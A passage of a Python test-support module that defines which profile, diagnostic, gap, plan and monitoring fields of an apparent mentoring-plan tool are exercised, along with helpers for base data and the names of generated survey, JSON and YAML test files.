        (("mentoring", 0, "mentor"), line), (("mentoring", 0, "focus"), paragraph),
        (("indicators", 0, "statement"), line), (("indicators", 0, "baseline"), line),
        (("indicators", 0, "target"), line), (("indicators", 0, "source"), line),
        (("actions", 0, "what"), line), (("actions", 0, "owner"), line),
    ]
    monitoring = [
        (("sessions_held", 0, "notes"), paragraph), (("sessions_held", 0, "planned"), line),
        (("mentoring_held", 0, "mentor"), line), (("mentoring_held", 0, "notes"), paragraph),
        (("measurements", 0, "value"), line), (("measurements", 0, "source"), line),
        (("obstacles", 0, "text"), paragraph),
        (("reflection", "helped"), paragraph), (("reflection", "blocked"), paragraph),
        (("reflection", "next"), paragraph),
    ]
    return [
        Target("profile", ("name",), line), Target("profile", ("role",), line),
        Target("profile", ("institution",), line),
        Target("diagnostic", ("reflection",), paragraph),
        Target("diagnostic", ("answers",), paragraph, key=True),
        Target("gaps", ("entries", 1, "label"), line),
        Target("gaps", ("entries", 0, "adaptation"), paragraph),
        Target("gaps", ("entries", 1, "adaptation"), paragraph),
        Target("gaps", ("entries", 0, "factor"), line),
        *[Target("plan", path, stripped) for path, stripped in plan],
        *[Target("monitoring", path, stripped) for path, stripped in monitoring],
    ]


TARGETS: list[Target] = _targets()


def base(section: str) -> dict[str, Any]:
    """A fresh copy of the base data of ``section``."""
    return json.loads(json.dumps(BASE[section]))


# The names of the generated files, for parametrizing (the makers only run when written).
SURVEY_FILES: list[str] = list(survey_makers())
JSON_FILES: list[str] = list(json_makers({}))
YAML_FILES: list[str] = list(yaml_makers(b""))
